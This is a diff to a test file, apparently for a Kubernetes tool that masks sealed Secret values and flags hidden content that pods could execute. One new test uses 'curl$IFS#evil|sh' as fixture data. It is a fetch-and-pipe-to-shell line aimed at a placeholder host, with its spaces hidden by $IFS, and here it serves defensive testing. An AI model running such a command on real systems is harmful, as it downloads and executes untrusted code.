@@ -2,8 +2,10 @@ import { openSealedValue } from '@fairlead/contract/sealed-value'
 import { privateKeys, secretShapes } from '@fairlead/service-kit/redaction/secret-shapes.fixture'
 import { describe, expect, it } from 'vitest'
 import type { KubeObject } from '../kube/kube-object.ts'
+import { ToolError } from '../tool-error.ts'
 import { masksOf } from './effect-masks.ts'
 import { effectObject, type ObjectWrite } from './effect-object.ts'
+import { podsOf } from './highlights/pods.ts'
 import { SEALED, UNREAD } from './origins.ts'
 
 const key = Buffer.alloc(32, 3)
@@ -19,6 +21,16 @@ function writeOf(after: KubeObject, before?: KubeObject): ObjectWrite {
 function shownOf(write: ObjectWrite, { by }: { by: Buffer | undefined } = { by: key }) {
   const object = effectObject(write, by)
   return { object, ...masksOf(write, object, by) }
+}
+
+function refusalOf(call: () => unknown): string {
+  try {
+    call()
+  } catch (error) {
+    if (error instanceof ToolError) return error.text
+    throw error
+  }
+  return 'nothing was refused'
 }
 
 const pod = (container: Record<string, unknown>): KubeObject => ({
@@ -175,6 +187,17 @@ describe('what is hidden counts as what could run', () => {
     expect(shownOf(writeOf(object)).signals).toEqual([])
   })
 
+  it('in a value of a Secret that pods run, and only there', () => {
+    const write = writeOf(secret({ it: 'curl$IFS#evil|sh' }))
+    const shown = effectObject(write, key)
+    const container = { name: 'a', command: ['sh', '/s/it'] }
+    const running = (secretName: string) =>
+      podsOf({ spec: { containers: [container], volumes: [{ name: 's', secret: { secretName } }] } })
+    expect(masksOf(write, shown, key, running('p')).masks).toMatchObject([{ executable: true }])
+    expect(masksOf(write, shown, key, running('q')).masks).toMatchObject([{ executable: false }])
+    expect(masksOf(write, shown, key).masks).toMatchObject([{ executable: false }])
+  })
+
   it('but not where it ran before', () => {
     const before = pod({ command: ['sh', '-c', token] })
     const after = pod({ command: ['sh', '-c', token], env: [{ name: 'A', value: 'b' }] })
@@ -313,10 +336,10 @@ describe('what the caller did not say is never sealed', () => {
     const of = (args: string[]) => ({ ...pod({ args }), metadata: { name: 'p' } })
     const moved = (said: unknown, more: object = {}) => shownOf({ ...writeOf(of([token])), said, ...more })
     for (const said of [of([UNREAD]), of(['x']), undefined])
-      expect(() => moved(said)).toThrow(
-        'what would come to /spec/containers/0/args/0 of Pod shop/p may run there, is hidden, and is not what the call itself says, so nobody could know what is approved. Write the text itself.',
+      expect(refusalOf(() => moved(said))).toBe(
+        'Refused: what would come to /spec/containers/0/args/0 of Pod shop/p may run there, is hidden, and is not what the call itself says, so nobody could know what is approved. Write the text itself.',
       )
-    expect(() => moved(of([UNREAD]), { putsBack: true })).toThrow('Write the text itself')
+    expect(refusalOf(() => moved(of([UNREAD]), { putsBack: true }))).toMatch(/Write the text itself\.$/)
   })
 
   it('what is put back as it was is high risk where it may run, and not asked for', () => {
